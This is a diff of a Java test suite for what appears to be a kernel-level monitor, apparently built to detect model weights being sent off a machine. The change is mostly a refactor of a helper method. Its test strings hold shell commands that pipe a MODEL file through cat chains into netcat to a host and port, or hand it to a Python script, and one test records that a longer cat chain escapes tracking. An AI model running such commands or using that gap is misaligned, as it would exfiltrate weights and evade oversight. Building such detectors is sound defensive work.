@@ -9,7 +9,6 @@ import static io.modelwarden.coverage.Kind.TRAIL;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import io.modelwarden.coverage.Way;
-import io.modelwarden.event.KernelEvent.BytesSent;
 import io.modelwarden.event.KernelEvent.Channel;
 import io.modelwarden.event.KernelEvent.DataMoved;
 import io.modelwarden.event.KernelEvent.Direction;
@@ -111,9 +110,8 @@ class RelayTest {
     if (!way.contains("atagrams") && !way.startsWith("UDP") && !way.contains("exec later")) {
       assertThat(received).isEqualTo(MODEL_BYTES);
     }
-    assertThat(sentTo(port).stream().mapToLong(sent -> sent.increment().bytes()).sum())
-        .isEqualTo(received);
-    ProcessKey sender = sentTo(port).get(0).process();
+    assertThat(observed.bytesSentTo(port)).isEqualTo(received);
+    ProcessKey sender = observed.sentTo(port).get(0).process();
     assertThat(observed.of(ProcessSeen.class, seen -> seen.process().key().sameProcess(sender)))
         .isNotEmpty()
         .anyMatch(
@@ -154,7 +152,7 @@ class RelayTest {
       int port = (int) sink.number("port");
       run("cat MODEL | cat >/dev/null; head -c 1000000 /dev/zero | nc.openbsd -N HOST PORT", port);
       observed.settle();
-      assertThat(sentTo(port)).isEmpty();
+      assertThat(observed.sentTo(port)).isEmpty();
     }
   }
 
@@ -165,9 +163,8 @@ class RelayTest {
       int port = (int) sink.number("port");
       run("/usr/bin/python3 SCRIPTS/hand_over.py model MODEL HOST PORT", port);
       observed.settle();
-      assertThat(sentTo(port).stream().mapToLong(sent -> sent.increment().bytes()).sum())
-          .isEqualTo(MODEL_BYTES);
-      ProcessKey child = sentTo(port).get(0).process();
+      assertThat(observed.bytesSentTo(port)).isEqualTo(MODEL_BYTES);
+      ProcessKey child = observed.sentTo(port).get(0).process();
       assertThat(observed.accesses(child.pid()).mapToLong(read -> read.increment().bytes()).sum())
           .isEqualTo(MODEL_BYTES);
     }
@@ -179,14 +176,14 @@ class RelayTest {
       int port = (int) sink.number("port");
       run("cat MODEL | cat | cat | cat | cat | cat | cat | cat | nc.openbsd -N HOST PORT", port);
       observed.settle();
-      assertThat(sentTo(port)).isNotEmpty();
+      assertThat(observed.sentTo(port)).isNotEmpty();
     }
     long beyond = observed.lost("channel_hops");
     try (Acts.Running sink = Acts.start("sink", "tcp", "127.0.0.1", 0)) {
       int port = (int) sink.number("port");
       run("cat MODEL |cat|cat|cat|cat|cat|cat|cat|cat | nc.openbsd -N HOST PORT", port);
       observed.settle();
-      assertThat(sentTo(port)).isEmpty();
+      assertThat(observed.sentTo(port)).isEmpty();
     }
     assertThat(observed.lost("channel_hops")).isGreaterThan(beyond);
   }
@@ -239,8 +236,7 @@ class RelayTest {
           port);
       observed.settle();
       assertThat(sink.goOn()).containsEntry("bytes", "50000");
-      assertThat(sentTo(port).stream().mapToLong(sent -> sent.increment().bytes()).sum())
-          .isEqualTo(counted);
+      assertThat(observed.bytesSentTo(port)).isEqualTo(counted);
     }
   }
 
@@ -286,11 +282,5 @@ class RelayTest {
             .redirectErrorStream(true)
             .start();
     assertThat(shell.waitFor(20, TimeUnit.SECONDS)).isTrue();
-  }
-
-  private static List<BytesSent> sentTo(int port) {
-    return observed
-        .of(BytesSent.class, sent -> sent.flow().port() == port && sent.flow().peer() != null)
-        .toList();
   }
 }
